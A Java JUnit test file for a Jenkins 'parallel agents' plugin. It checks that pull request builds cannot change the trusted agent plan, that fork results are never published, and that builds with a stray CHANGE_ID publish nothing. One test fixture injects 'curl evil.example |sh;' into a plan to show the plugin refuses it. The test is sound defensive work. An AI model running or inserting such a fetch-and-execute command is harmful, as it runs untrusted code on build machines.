package io.jenkins.plugins.parallelagents.jenkins;

import static org.hamcrest.MatcherAssert.assertThat;
import static org.hamcrest.Matchers.hasItem;
import static org.hamcrest.Matchers.not;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertNull;

import edu.umd.cs.findbugs.annotations.CheckForNull;
import edu.umd.cs.findbugs.annotations.NonNull;
import hudson.model.Item;
import hudson.model.Label;
import hudson.model.Result;
import hudson.model.TaskListener;
import hudson.scm.NullSCM;
import hudson.scm.SCM;
import hudson.scm.SCMDescriptor;
import io.jenkins.plugins.parallelagents.jenkins.action.ParallelAgentsAction;
import io.jenkins.plugins.parallelagents.jenkins.action.PhaseRow;
import java.io.ByteArrayInputStream;
import java.io.FileNotFoundException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.TimeUnit;
import jenkins.scm.api.SCMFile;
import jenkins.scm.api.SCMFileSystem;
import jenkins.scm.api.SCMHead;
import jenkins.scm.api.SCMHeadEvent;
import jenkins.scm.api.SCMHeadObserver;
import jenkins.scm.api.SCMHeadOrigin;
import jenkins.scm.api.SCMRevision;
import jenkins.scm.api.SCMRevisionAction;
import jenkins.scm.api.SCMSource;
import jenkins.scm.api.SCMSourceCriteria;
import jenkins.scm.api.SCMSourceDescriptor;
import jenkins.scm.api.mixin.ChangeRequestCheckoutStrategy;
import jenkins.scm.api.mixin.ChangeRequestSCMHead2;
import jenkins.scm.api.mixin.ChangeRequestSCMRevision;
import org.jenkinsci.plugins.workflow.cps.CpsFlowDefinition;
import org.jenkinsci.plugins.workflow.job.WorkflowJob;
import org.jenkinsci.plugins.workflow.job.WorkflowRun;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.api.io.TempDir;
import org.jvnet.hudson.test.JenkinsRule;
import org.jvnet.hudson.test.TestExtension;
import org.jvnet.hudson.test.junit.jupiter.BuildWatcherExtension;
import org.jvnet.hudson.test.junit.jupiter.WithJenkins;

/**
 * Pull request builds as a multibranch job runs them: the build's job is a pull request of an SCM
 * source, its revision recorded on the build ({@link SCMRevisionAction}) and {@code CHANGE_ID} set.
 * The source here is the test's own ({@link PullRequestSource}): it holds the files of each
 * revision in memory and offers them through a lightweight checkout ({@link RevisionFileSystem}),
 * which is how the plugin reads both the trusted plan and the pull request's. The nodes check out
 * the sample repository's {@code main}, as in {@link ParallelAgentsPipelineTest}.
 */
@WithJenkins
@Timeout(value = 10, unit = TimeUnit.MINUTES)
class PullRequestPipelineTest {

  @RegisterExtension static final BuildWatcherExtension BUILD_WATCHER = new BuildWatcherExtension();

  /** The source and head of each job, by the job's full name: what a multibranch job knows. */
  private static final Map<String, SCMSource> SOURCES = new ConcurrentHashMap<>();

  private static final Map<String, SCMHead> HEADS = new ConcurrentHashMap<>();

  @TempDir Path temp;

  private JenkinsRule j;
  private SampleRepository repo;

  @BeforeEach
  void setUp(JenkinsRule rule) throws Exception {
    this.j = rule;
    repo = SampleRepository.create(temp, SamplePlans.STEPS);
    j.createOnlineSlave(Label.get("agents"), repo.nodeEnvironment());
  }

  @Test
  void aPullRequestThatChangesThePlan_isRefused_andNoTaskRuns() throws Exception {
    String changed = SamplePlans.STEPS.replace("echo \"$AGENT_TASK_ID\"", "curl evil.example |sh;");
    PullRequestSource source =
        new PullRequestSource(
            Map.of("agents-plan.yaml", SamplePlans.STEPS), Map.of("agents-plan.yaml", changed));

    WorkflowRun run =
        j.assertBuildStatus(
            Result.FAILURE, pullRequest("changes-plan", source, SCMHeadOrigin.DEFAULT, true));

    j.assertLogContains(
        "this pull request changes agents-plan.yaml, which the agent plan runs with; a pull"
            + " request build runs the plan of 'main', so a trusted committer must land the change"
            + " on 'main' first",
        run);
    assertNull(run.getAction(ParallelAgentsAction.class), "no run was started");
    j.assertLogNotContains("[Pipeline] { (api)", run);
    assertFalse(repo.hasBranch("agents/pr-7"), "nothing was published");
    assertFalse(repo.hasBranch("agents/steps"), "nothing was published");
  }

  @Test
  void aPullRequestFromAFork_runsButPublishesNothing_evenWhenAsked() throws Exception {
    PullRequestSource source =
        new PullRequestSource(
            Map.of("agents-plan.yaml", SamplePlans.STEPS),
            Map.of("agents-plan.yaml", SamplePlans.STEPS));
    SCMHeadOrigin fork = new SCMHeadOrigin.Fork("someone/project");

    WorkflowRun run = j.assertBuildStatusSuccess(pullRequest("fork", source, fork, true));

    j.assertLogContains(
        "Not published: pull request 7 comes from a fork: its result is never published", run);
    assertFalse(repo.hasBranch("agents/pr-7"), "the fork's result was not pushed");
    assertFalse(repo.hasBranch("agents/steps"), "the plan's target was left alone");
    ParallelAgentsAction action = run.getAction(ParallelAgentsAction.class);
    assertNotNull(action, "the run was started");
    assertEquals("agents/pr-7", action.getTarget());
    assertEquals("SUCCEEDED", action.getStatus());
    PhaseRow publish = phase(action, "publish");
    assertEquals("SKIPPED", publish.getStatus());
    assertEquals(
        "pull request 7 comes from a fork: its result is never published", publish.getReason());
    assertThat(phaseStatuses(action), not(hasItem("FAILED")));
  }

  @Test
  void aChangeIdOnABuildWhoseHeadIsNoPullRequest_publishesNothing() throws Exception {
    PullRequestSource source =
        new PullRequestSource(
            Map.of("agents-plan.yaml", SamplePlans.STEPS),
            Map.of("agents-plan.yaml", SamplePlans.STEPS));
    WorkflowJob job = job("branch-with-change-id", source, new SCMHead("main"), true);

    WorkflowRun run =
        j.assertBuildStatusSuccess(
            job.scheduleBuild2(0, new SCMRevisionAction(source, source.target())));

    j.assertLogContains(
        "Not published: the build has CHANGE_ID 7 but its SCM source names no pull request", run);
    assertFalse(repo.hasBranch("agents/pr-7"), "nothing was pushed");
    assertEquals(
        "SKIPPED", phase(run.getAction(ParallelAgentsAction.class), "publish").getStatus());
  }

  /** Builds pull request 7 of {@code source}, from {@code origin}, with the given opt-in. */
  private WorkflowRun pullRequest(
      String name, PullRequestSource source, SCMHeadOrigin origin, boolean publishPullRequests)
      throws Exception {
    PullRequestHead head = new PullRequestHead(origin);
    WorkflowJob job = job(name, source, head, publishPullRequests);
    return job.scheduleBuild2(0, new SCMRevisionAction(source, source.pullRequest(head))).get();
  }

  private WorkflowJob job(String name, SCMSource source, SCMHead head, boolean publishPullRequests)
      throws Exception {
    WorkflowJob job = j.createProject(WorkflowJob.class, name);
    SOURCES.put(job.getFullName(), source);
    HEADS.put(job.getFullName(), head);
    // CHANGE_ID is what a multibranch job's pull request builds get from workflow-multibranch.
    job.setDefinition(
        new CpsFlowDefinition(
            """
            withEnv(['CHANGE_ID=7']) {
              parallelAgents(plan: 'agents-plan.yaml', label: 'agents', checkout: %s,
                  publishPullRequests: %s)
            }
            """
                .formatted(repo.checkoutClosure(), publishPullRequests),
            true));
    return job;
  }

  private static PhaseRow phase(ParallelAgentsAction action, String name) {
    return action.getPhases().stream()
        .filter(row -> row.getName().equalsIgnoreCase(name))
        .findFirst()
        .orElseThrow(() -> new AssertionError("no phase " + name));
  }

  private static List<String> phaseStatuses(ParallelAgentsAction action) {
    return action.getPhases().stream().map(PhaseRow::getStatus).toList();
  }

  /** The source of a job of this test, as a multibranch project would give it. */
  @TestExtension
  public static final class Sources extends SCMSource.SourceByItem {
    @Override
    public SCMSource getSource(Item item) {
      return SOURCES.get(item.getFullName());
    }
  }

  /** The head a job of this test builds, as a multibranch project would give it. */
  @TestExtension
  public static final class Heads extends SCMHead.HeadByItem {
    @Override
    public SCMHead getHead(Item item) {
      return HEADS.get(item.getFullName());
    }
  }

  /** Reads a {@link PullRequestSource}'s revisions without a checkout. */
  @TestExtension
  public static final class Files extends SCMFileSystem.Builder {
    @Override
    public boolean supports(SCM source) {
      return false;
    }

    @Override
    public boolean supports(SCMSource source) {
      return source instanceof PullRequestSource;
    }

    @Override
    protected boolean supportsDescriptor(SCMDescriptor descriptor) {
      return false;
    }

    @Override
    protected boolean supportsDescriptor(SCMSourceDescriptor descriptor) {
      return false;
    }

    @Override
    public SCMFileSystem build(Item owner, SCM scm, SCMRevision rev) {
      return null;
    }

    @Override
    public SCMFileSystem build(SCMSource source, SCMHead head, SCMRevision rev) {
      Map<String, String> files = ((PullRequestSource) source).files(rev);
      return files == null ? null : new RevisionFileSystem(rev, files);
    }
  }

  /**
   * A repository with a branch {@code main} and one pull request for it; each revision's files, by
   * path.
   */
  static final class PullRequestSource extends SCMSource {
    private final Map<String, String> targetFiles;
    private final Map<String, String> pullRequestFiles;

    PullRequestSource(Map<String, String> targetFiles, Map<String, String> pullRequestFiles) {
      this.targetFiles = targetFiles;
      this.pullRequestFiles = pullRequestFiles;
      setId("pull-request-source");
    }

    BranchRevision target() {
      return new BranchRevision(new SCMHead("main"), "t1");
    }

    PullRequestRevision pullRequest(PullRequestHead head) {
      return new PullRequestRevision(head, target(), "p1");
    }

    Map<String, String> files(SCMRevision revision) {
      if (revision instanceof PullRequestRevision) {
        return pullRequestFiles;
      }
      return revision instanceof BranchRevision ? targetFiles : null;
    }

    @Override
    protected void retrieve(
        @CheckForNull SCMSourceCriteria criteria,
        @NonNull SCMHeadObserver observer,
        @CheckForNull SCMHeadEvent<?> event,
        @NonNull TaskListener listener) {
      // The test builds its jobs itself: nothing to discover.
    }

    @NonNull
    @Override
    public SCM build(@NonNull SCMHead head, @CheckForNull SCMRevision revision) {
      return new NullSCM();
    }
  }

  /** Pull request 7, for {@code main}. */
  static final class PullRequestHead extends SCMHead implements ChangeRequestSCMHead2 {
    private static final long serialVersionUID = 1L;
    private final SCMHeadOrigin origin;

    PullRequestHead(SCMHeadOrigin origin) {
      super("PR-7");
      this.origin = origin;
    }

    @NonNull
    @Override
    public String getId() {
      return "7";
    }

    @NonNull
    @Override
    public SCMHead getTarget() {
      return new SCMHead("main");
    }

    @NonNull
    @Override
    public SCMHeadOrigin getOrigin() {
      return origin;
    }

    @NonNull
    @Override
    public ChangeRequestCheckoutStrategy getCheckoutStrategy() {
      return ChangeRequestCheckoutStrategy.HEAD;
    }

    @NonNull
    @Override
    public String getOriginName() {
      return getName();
    }
  }

  /** A revision of {@code main}, named by an opaque id. */
  static final class BranchRevision extends SCMRevision {
    private static final long serialVersionUID = 1L;
    private final String id;

    BranchRevision(SCMHead head, String id) {
      super(head);
      this.id = id;
    }

    @Override
    public boolean equals(Object other) {
      return other instanceof BranchRevision that
          && id.equals(that.id)
          && getHead().equals(that.getHead());
    }

    @Override
    public int hashCode() {
      return Objects.hash(id, getHead());
    }

    @Override
    public String toString() {
      return id;
    }
  }

  /** A revision of the pull request: no git commit id, so the commit checked out is the base. */
  static final class PullRequestRevision extends ChangeRequestSCMRevision<PullRequestHead> {
    private static final long serialVersionUID = 1L;
    private final String id;

    PullRequestRevision(PullRequestHead head, SCMRevision target, String id) {
      super(head, target);
      this.id = id;
    }

    @Override
    public boolean equivalent(ChangeRequestSCMRevision<?> revision) {
      return revision instanceof PullRequestRevision that && id.equals(that.id);
    }

    @Override
    protected int _hashCode() {
      return id.hashCode();
    }

    @Override
    public String toString() {
      return id + "+" + getTarget();
    }
  }

  /** A revision's files: a flat folder of text files. */
  static final class RevisionFileSystem extends SCMFileSystem {
    private final Map<String, String> files;

    RevisionFileSystem(SCMRevision revision, Map<String, String> files) {
      super(revision);
      this.files = files;
    }

    @Override
    public long lastModified() {
      return 0;
    }

    @NonNull
    @Override
    public SCMFile getRoot() {
      return new TextFile(files);
    }
  }

  /** A file of a {@link RevisionFileSystem}, or its root folder. */
  static final class TextFile extends SCMFile {
    private final Map<String, String> files;

    /** The root folder. */
    TextFile(Map<String, String> files) {
      this.files = files;
    }

    TextFile(Map<String, String> files, TextFile parent, String name) {
      super(parent, name);
      this.files = files;
    }

    @NonNull
    @Override
    protected SCMFile newChild(@NonNull String name, boolean assumeIsDirectory) {
      return new TextFile(files, this, name);
    }

    @NonNull
    @Override
    public Iterable<SCMFile> children() {
      List<SCMFile> children = new ArrayList<>();
      if (isRoot()) {
        files.keySet().forEach(path -> children.add(new TextFile(files, this, path)));
      }
      return children;
    }

    @Override
    public long lastModified() {
      return 0;
    }

    @NonNull
    @Override
    protected Type type() {
      if (isRoot()) {
        return Type.DIRECTORY;
      }
      return files.containsKey(getPath()) ? Type.REGULAR_FILE : Type.NONEXISTENT;
    }

    @NonNull
    @Override
    public InputStream content() throws FileNotFoundException {
      String text = files.get(getPath());
      if (text == null) {
        throw new FileNotFoundException(getPath());
      }
      return new ByteArrayInputStream(text.getBytes(StandardCharsets.UTF_8));
    }
  }
}
